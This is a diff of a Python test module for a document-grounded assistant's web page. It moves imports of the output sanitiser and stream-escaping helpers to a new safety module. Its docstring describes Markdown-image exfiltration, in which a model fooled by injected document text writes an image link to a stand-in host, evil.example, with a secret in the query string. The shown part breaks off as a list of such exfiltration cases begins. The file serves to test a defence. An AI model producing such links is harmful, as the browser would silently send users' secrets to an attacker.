@@ -2,7 +2,7 @@
 
 Exfiltration through Markdown: a fooled model writes ``![x](http://evil.example/?q=<secret>)``;
 a browser that renders it fetches the address and hands the secret to that server, without a
-click. The page's defence is ``sanitize_model_output`` (``assistant/export.py``, re-exported by
+click. The page's defence is ``sanitize_model_output`` (``assistant/safety.py``, re-exported by
 ``ui/components.py``) on the final answer and per-character escaping (``plain_stream_text``) of
 the live draft. Passages and metadata come from documents anyone could have written; the source
 cards escape every piece of text (``source_card_html`` / ``highlight_html``).
@@ -18,15 +18,12 @@ from assistant.chunks import Chunk
 from assistant.embeddings import make_embeddings
 from assistant.llm import FakeChat
 from assistant.prompting import Prompts
+from assistant.safety import plain_stream_text, sanitize_model_output
 from assistant.service import Assistant
 from assistant.settings import Settings
 from assistant.store import Store
 
 from ._corpus import build
-
-export = pytest.importorskip("assistant.export", reason="assistant/export.py not there yet")
-sanitize_model_output = export.sanitize_model_output
-plain_stream_text = export.plain_stream_text
 
 GROUNDED = "Uit het onderzoek blijkt dat 26 procent van de werknemers AI actief gebruikt [1]."
 EXFIL = [
